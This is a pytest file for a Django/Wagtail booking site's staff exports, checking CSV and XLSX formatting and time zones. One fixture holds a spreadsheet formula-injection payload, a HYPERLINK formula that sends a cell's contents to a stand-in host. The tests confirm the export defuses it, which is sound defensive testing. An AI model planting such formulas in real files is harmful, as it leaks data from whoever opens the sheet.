"""A list of the desk as a file: hours of Paris, and words that no table program runs."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import datetime
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets

from booking.models import Complaint
from booking.relations.complaints import complain
from destination.desk import FileForSheets
from members.journal import VISITOR
from members.models import User
from oti.lib.dates import PARIS
from tests.booking.relations.stays import past_stay
from tests.cast import FakeBank

pytestmark = pytest.mark.django_db
BOMB = '=HYPERLINK("https://example.org/?"&A1,"Open")'
AT = datetime(2027, 7, 20, 23, 30, tzinfo=PARIS)


@pytest.fixture
def complaint(bank: FakeBank, at) -> Complaint:
    at(AT)
    order = past_stay(bank)
    return complain(order, BOMB, channel="site", actor=VISITOR, now=AT)


@pytest.fixture
def desk(staff: User, complaint: Complaint) -> Client:
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(staff)
    return client


def content(desk: Client, kind: str) -> bytes:
    answer = desk.get(reverse("desk_complaints:index"), {"export": kind})
    assert answer.status_code == 200
    return b"".join(answer) if answer.streaming else answer.content


def rows_of(file: bytes) -> list[dict[str, str]]:
    """Read a file as a French table program does: by its mark, its semicolons, its commas."""
    assert file.startswith(codecs.BOM_UTF8)
    assert not file.removeprefix(codecs.BOM_UTF8).startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(file.decode("utf-8-sig")), delimiter=";"))


def exporting() -> list[Any]:
    """Return what of the desk's lists is given as files too; Wagtail has lists of its own."""
    reverse("wagtailadmin_home")  # They are there once the addresses are known.
    ours = ("booking", "destination", "events", "members")
    found = (one for one in viewsets.viewsets if type(one).__module__.startswith(ours))
    # Where it says nothing, its view's own default stands there, which is no list of columns.
    return [one for one in found if isinstance(getattr(one, "list_export", None), list | tuple)]


def test_each_list_of_the_desk_opens_in_columns(complaint: Complaint):
    admin = Client(headers={"Accept-Language": "en"})
    admin.force_login(User.objects.create_superuser("administration@example.org", "x"))
    names = [one.get_url_name("index") for one in exporting()]
    names += ["rights_that_end", "pages_to_mend"]
    assert len(names) > 12
    for name in names:
        answer = admin.get(reverse(name), {"export": "csv"})
        assert answer.status_code == 200, name
        assert ";" in b"".join(answer).decode("utf-8-sig").splitlines()[0], name


def test_no_list_of_the_desk_is_given_as_a_file_of_another_kind():
    assert [one for one in exporting() if not issubclass(one.index_view_class, FileForSheets)] == []


def test_sums_have_a_comma(complaint: Complaint):
    admin = Client(headers={"Accept-Language": "en"})
    admin.force_login(User.objects.create_superuser("administration@example.org", "x"))
    answer = admin.get(reverse("desk_orders:index"), {"export": "csv"})
    [row] = rows_of(b"".join(answer))
    assert f"{complaint.order.total_amount:.2f}".replace(".", ",") in row.values()


def test_what_a_guest_typed_is_no_formula_in_a_csv(desk: Client):
    [row] = rows_of(content(desk, "csv"))
    assert f"'{BOMB}" in row.values()
    assert BOMB not in row.values()
    assert "2027-07-20 23:30" in row.values()


def test_a_file_says_in_words_what_the_list_does(complaint: Complaint):
    admin = Client(headers={"Accept-Language": "fr"})
    admin.force_login(User.objects.create_superuser("administration@example.org", "x"))
    [order] = rows_of(b"".join(admin.get(reverse("desk_orders:index"), {"export": "csv"})))
    assert order["État"] == complaint.order.get_state_display()
    [said] = rows_of(b"".join(admin.get(reverse("desk_complaints:index"), {"export": "csv"})))
    assert said["Commande"] == complaint.order.reference
    assert said["Reçue"] == complaint.get_channel_display()
    offers = admin.get(reverse("desk_experiences:index"), {"export": "csv"})
    assert {"Prestataire", "Commune", "Numéro", "Changée"} <= rows_of(b"".join(offers))[0].keys()
    providers = rows_of(b"".join(admin.get(reverse("desk_providers:index"), {"export": "csv"})))
    assert {one["Professionnel"] for one in providers} <= {"oui", "non"}


def test_no_column_of_a_file_has_the_name_of_a_field(complaint: Complaint):
    admin = Client(headers={"Accept-Language": "fr"})
    admin.force_login(User.objects.create_superuser("administration@example.org", "x"))
    for one in exporting():
        answer = admin.get(reverse(one.get_url_name("index")), {"export": "csv"})
        [names] = csv.reader(
            io.StringIO(b"".join(answer).decode("utf-8-sig").splitlines()[0]), delimiter=";"
        )
        fields = [name for name in names if "." in name or "_" in name or name.endswith(" text")]
        assert fields == [], one


def test_a_sheet_has_the_hours_of_paris_and_no_formula(desk: Client):
    [_names, row] = load_workbook(io.BytesIO(content(desk, "xlsx"))).active.iter_rows()
    assert datetime(2027, 7, 20, 23, 30) in [cell.value for cell in row]
    [words] = [cell for cell in row if cell.value == BOMB]
    assert words.data_type != "f"


def test_a_sign_that_no_sheet_holds_keeps_no_file_from_being_made(
    desk: Client, complaint: Complaint
):
    Complaint.objects.update(words="before\x0bafter")
    row = [*load_workbook(io.BytesIO(content(desk, "xlsx"))).active.iter_rows(values_only=True)][1]
    assert "beforeafter" in row
